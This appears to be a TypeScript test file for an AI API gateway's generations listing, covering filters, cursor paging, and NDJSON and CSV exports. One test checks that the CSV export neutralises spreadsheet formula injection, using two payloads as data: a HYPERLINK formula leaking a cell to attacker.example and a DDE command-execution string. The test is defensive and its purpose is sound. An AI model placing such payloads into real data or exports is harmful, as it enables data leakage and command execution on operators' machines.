import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ErrorEnvelopeSchema, ListGenerationsResponseSchema } from '@tollgate/protocol';
import { toRecordTimestamp } from '../../src/ledger/ids.js';
import type { GenerationRow } from '../../src/storage/storage.js';
import { generationRow } from '../contract/storage-contract.js';
import { getGeneration, postJson } from '../helpers/http.js';
import { openAIChatCompletion } from '../helpers/openai-fixtures.js';
import { startTestGateway } from '../helpers/start-test-gateway.js';

async function getJson(url: string, key: string): Promise<{ status: number; body: unknown }> {
  const response = await fetch(url, { headers: { authorization: `Bearer ${key}` } });
  return { status: response.status, body: await response.json() };
}

/** A stored row as the ledger writes it (the record holds the row's own facts). */
function row(index: number, createdAtMs: number, keyHash: string): GenerationRow {
  const id = `gen-bulk-${String(index).padStart(6, '0')}`;
  const createdAt = toRecordTimestamp(createdAtMs);
  const outcome = (['ok', 'error', 'cancelled'] as const)[index % 3] ?? 'ok';
  return generationRow({
    id,
    keyHash,
    createdAt,
    outcome,
    cancelled: outcome === 'cancelled',
    usagePico: BigInt(index) * 1_000_000n,
    totalCostPico: BigInt(index) * 1_000_000n,
    externalUser: index % 10 === 0 ? 'tenth' : null,
    record: JSON.stringify({ id, created_at: createdAt, note: 'a "quoted", comma\u00e9' }),
  });
}

test('lists generations newest first as GET /generation returns them, own key or all', async (t) => {
  const harness = await startTestGateway();
  t.after(() => harness.close());
  harness.upstream.route('/v1/chat/completions', {
    kind: 'json',
    body: openAIChatCompletion({ usage: { prompt_tokens: 40, completion_tokens: 9 } }),
  });
  const created = await postJson(harness.apiUrl, '/keys', harness.key, { name: 'app' });
  const { key: appKey } = (await created.json()) as { key: string };
  const adminHash = (
    (await getJson(`${harness.apiUrl}/keys`, harness.key)).body as {
      data: Array<{ hash: string; name: string }>;
    }
  ).data.find((key) => key.name !== 'app')?.hash;
  assert.ok(adminHash !== undefined);
  const ids: string[] = [];
  for (const [key, extra] of [
    [appKey, { user: 'alice', session_id: 'conversation-1' }],
    [appKey, {}],
    [appKey, { user: 'alice' }],
    [harness.key, {}],
  ] as const) {
    const response = await postJson(harness.apiUrl, '/chat/completions', key, {
      model: 'test/model',
      messages: [{ role: 'user', content: 'Hi' }],
      ...extra,
    });
    ids.push(((await response.json()) as { id: string }).id);
  }

  const own = await getJson(`${harness.apiUrl}/generations`, appKey);
  assert.equal(own.status, 200);
  const page = ListGenerationsResponseSchema.parse(own.body);
  assert.deepEqual(
    page.data.map((record) => record.id),
    ids.slice(0, 3).reverse(),
  );
  assert.equal(page.next_cursor, null);
  for (const record of (own.body as { data: unknown[] }).data) {
    const single = await getGeneration(harness.apiUrl, appKey, (record as { id: string }).id);
    assert.deepEqual(record, ((await single.json()) as { data: unknown }).data);
  }
  const all = ListGenerationsResponseSchema.parse(
    (await getJson(`${harness.apiUrl}/generations`, harness.key)).body,
  );
  assert.deepEqual(
    all.data.map((record) => record.id),
    [...ids].reverse(),
  );
  const byFilter = async (query: string, key = harness.key) =>
    ListGenerationsResponseSchema.parse(
      (await getJson(`${harness.apiUrl}/generations?${query}`, key)).body,
    ).data.map((record) => record.id);
  assert.deepEqual(await byFilter('external_user=alice'), [ids[2], ids[0]]);
  assert.deepEqual(await byFilter('session_id=conversation-1'), [ids[0]]);
  assert.deepEqual(await byFilter(`key_hash=${adminHash}`), [ids[3]]);
  assert.deepEqual(
    await byFilter('model=test/model&provider=Acme&api_type=completions&outcome=ok'),
    [...ids].reverse(),
  );
  assert.deepEqual(await byFilter('outcome=error'), []);
  assert.deepEqual(await byFilter('min_cost=1'), []);
  assert.deepEqual(await byFilter('model=other/model'), []);
  assert.deepEqual(await byFilter('to=2000-01-01'), []);

  const forbidden = await getJson(`${harness.apiUrl}/generations?key_hash=${adminHash}`, appKey);
  assert.equal(forbidden.status, 403);
  for (const [query, parameter] of [
    ['limit=0', 'limit'],
    ['limit=201', 'limit'],
    ['limit=ten', 'limit'],
    ['min_cost=-1', 'min_cost'],
    ['min_cost=0.0000000000001', 'min_cost'],
    ['from=yesterday', 'from'],
    ['to=2026-13-45T', 'to'],
    ['outcome=failed', 'outcome'],
    ['format=xml', 'format'],
    ['cursor=bm90LWEtY3Vyc29y', 'cursor'],
  ] as const) {
    const response = await getJson(`${harness.apiUrl}/generations?${query}`, harness.key);
    assert.equal(response.status, 400, query);
    assert.match(ErrorEnvelopeSchema.parse(response.body).error.message, new RegExp(parameter));
  }
});

test('pages are stable under concurrent inserts and exports stream every row once', async (t) => {
  const harness = await startTestGateway();
  t.after(() => harness.close());
  const storage = harness.gateway.context.storage;
  const keyHash = 'b'.repeat(64);
  const startMs = Date.parse('2026-12-01T00:00:00.000Z');
  const total = 3_000;
  // Rows share their created_at two by two: the id breaks the tie.
  const rows = Array.from({ length: total }, (_, index) =>
    row(index, startMs + Math.floor(index / 2) * 1000, keyHash),
  );
  await storage.generations.insertMany(rows);

  const seen: string[] = [];
  let cursor: string | null = null;
  let inserted = total;
  do {
    // An odd page size: pages end between two records that share their created_at.
    const query: string = cursor === null ? 'limit=199' : `limit=199&cursor=${cursor}`;
    const response = await getJson(`${harness.apiUrl}/generations?${query}`, harness.key);
    assert.equal(response.status, 200);
    const page = response.body as { data: Array<{ id: string }>; next_cursor: string | null };
    seen.push(...page.data.map((record) => record.id));
    cursor = page.next_cursor;
    // Newer records arrive while the client pages: they never shift or repeat a page.
    await storage.generations.insertMany([
      row(inserted, Date.parse('2026-12-07T00:00:00Z'), keyHash),
    ]);
    inserted += 1;
  } while (cursor !== null);
  const expected = rows.map((each) => each.id).reverse();
  assert.deepEqual(seen, expected);

  const filtered = (await getJson(
    `${harness.apiUrl}/generations?outcome=error&min_cost=0.000001&external_user=tenth&to=2026-12-07`,
    harness.key,
  )) as { body: { data: Array<{ id: string }> } };
  assert.deepEqual(
    filtered.body.data.map((record) => record.id),
    rows
      .filter((_, index) => index % 3 === 1 && index % 10 === 0 && index >= 1)
      .map((each) => each.id)
      .reverse()
      .slice(0, 50),
  );

  const ndjson = await fetch(`${harness.apiUrl}/generations?format=ndjson&to=2026-12-06`, {
    headers: { authorization: `Bearer ${harness.key}` },
  });
  assert.equal(ndjson.status, 200);
  assert.match(ndjson.headers.get('content-type') ?? '', /application\/x-ndjson/);
  const lines = (await ndjson.text()).split('\n');
  assert.equal(lines.pop(), '');
  assert.deepEqual(
    lines.map((line) => (JSON.parse(line) as { id: string }).id),
    expected,
  );

  const csv = await fetch(`${harness.apiUrl}/generations?format=csv&to=2026-12-06`, {
    headers: { authorization: `Bearer ${harness.key}` },
  });
  assert.match(csv.headers.get('content-type') ?? '', /text\/csv/);
  const csvLines = (await csv.text()).split('\r\n');
  assert.equal(csvLines.pop(), '');
  const header = (csvLines.shift() ?? '').split(',');
  assert.equal(header[0], 'id');
  assert.equal(csvLines.length, total);
  assert.deepEqual(
    csvLines.map((line) => line.split(',')[0]),
    expected,
  );
});

// CSV injection: `user`, `session_id` and the referer are whatever a caller sent, and an operator
// opens the export in a spreadsheet, which would run a cell starting with `=` as a formula.
test('the CSV export never hands a spreadsheet a formula; NDJSON keeps the exact values', async (t) => {
  const harness = await startTestGateway();
  t.after(() => harness.close());
  harness.upstream.route('/v1/chat/completions', {
    kind: 'json',
    body: openAIChatCompletion({ usage: { prompt_tokens: 4, completion_tokens: 2 } }),
  });
  const user = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
  const session = "@SUM(1+1)*cmd|' /C calc'!A0";
  const referer = 'https://app.example/-not-a-formula';
  const response = await postJson(
    harness.apiUrl,
    '/chat/completions',
    harness.key,
    {
      model: 'test/model',
      messages: [{ role: 'user', content: 'Hi' }],
      user,
      session_id: session,
    },
    { 'http-referer': referer },
  );
  assert.equal(response.status, 200);
  await response.text();

  const ndjson = await fetch(`${harness.apiUrl}/generations?format=ndjson`, {
    headers: { authorization: `Bearer ${harness.key}` },
  });
  const record = JSON.parse((await ndjson.text()).trim()) as Record<string, unknown>;
  assert.equal(record['external_user'], user);
  assert.equal(record['session_id'], session);

  const csv = await fetch(`${harness.apiUrl}/generations?format=csv`, {
    headers: { authorization: `Bearer ${harness.key}` },
  });
  const [header = '', line = ''] = (await csv.text()).split('\r\n');
  const cells = parseCsvLine(line);
  const cell = (name: string) => cells[header.split(',').indexOf(name)];
  assert.equal(cell('external_user'), `'${user}`);
  assert.equal(cell('session_id'), `'${session}`);
  // Text that does not start like a formula, and numbers, are as they are.
  assert.equal(cell('model'), 'test/model');
  assert.equal(cell('tokens_prompt'), String(record['tokens_prompt']));
  for (const value of cells) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
});

/** The cells of one CSV line (RFC 4180 quoting). */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let index = 0;
  while (index <= line.length) {
    if (line[index] === '"') {
      let value = '';
      index += 1;
      for (;;) {
        const quote = line.indexOf('"', index);
        value += line.slice(index, quote);
        index = quote + 1;
        if (line[index] !== '"') break;
        value += '"';
        index += 1;
      }
      cells.push(value);
      index += 1;
    } else {
      const comma = line.indexOf(',', index);
      const end = comma < 0 ? line.length : comma;
      cells.push(line.slice(index, end));
      index = end + 1;
    }
  }
  return cells;
}
